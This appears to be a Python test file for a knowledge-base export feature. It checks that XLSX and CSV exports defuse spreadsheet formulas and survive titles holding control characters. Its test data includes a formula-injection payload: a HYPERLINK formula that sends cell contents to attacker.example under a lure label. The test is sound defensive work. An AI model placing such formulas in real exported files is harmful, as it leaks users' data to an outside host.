"""Issue #26 item 7: a knowledge base export survives any stored text and never carries a live formula."""
from __future__ import annotations

import csv
import io

from openpyxl import load_workbook
from sqlalchemy import update

from domain.db import session_scope
from domain.models import KnowledgeVersion
from tests.conftest import login

FORMULA = '=HYPERLINK("http://attacker.example/?q="&A1,"点击查看办理指南")'


def _entry(client, headers, title: str) -> int:
    r = client.post("/api/knowledge/entries", headers=headers,
                    json={"title": title, "body": "携带身份证到社保经办网点办理。", "keywords": ["社保卡"]})
    assert r.status_code == 201, r.text
    return r.json()["id"]


def test_kb_export_neutralises_formulas_and_survives_control_characters(client, engine):
    km = login(client, "km")
    _entry(client, km, FORMULA)
    legacy = _entry(client, km, "社保卡补办")
    # a title stored before control characters were refused at input (or written by an older import); PostgreSQL
    # never stores NUL, so there the legacy title holds the other control character only
    nul = "" if engine.dialect.name == "postgresql" else "\x00"
    with session_scope(engine) as s:
        s.execute(update(KnowledgeVersion).where(KnowledgeVersion.entry_id == legacy)
                  .values(title=f"社保卡{nul}补办\x1b"))

    r = client.get("/api/knowledge/export", headers=km, params={"fmt": "xlsx"})
    assert r.status_code == 200, r.text
    sheet = load_workbook(io.BytesIO(r.content)).active
    header = [c.value for c in sheet[1]]
    cells = {row[header.index("question")].value: row[header.index("question")] for row in sheet.iter_rows(min_row=2)}
    assert set(cells) == {"'" + FORMULA, "社保卡补办"}
    assert all(cell.data_type == "s" for cell in cells.values()), "no cell is a formula"

    r = client.get("/api/knowledge/export", headers=km, params={"fmt": "csv"})
    assert r.status_code == 200
    titles = {row["question"] for row in csv.DictReader(io.StringIO(r.content.decode("utf-8-sig")))}
    assert titles == {"'" + FORMULA, "社保卡补办"}


def test_an_exported_workbook_imports_unchanged(client):
    km = login(client, "km")
    _entry(client, km, FORMULA)
    exported = client.get("/api/knowledge/export", headers=km, params={"fmt": "xlsx"}).content
    r = client.post("/api/knowledge/import", headers=km, files={"file": ("kb.xlsx", exported)})
    assert r.status_code == 200, r.text
    assert r.json()["created"] + r.json()["updated"] == 1
    titles = {e["title"] for e in client.get("/api/knowledge/entries", headers=km).json()["items"]}
    assert titles == {FORMULA}
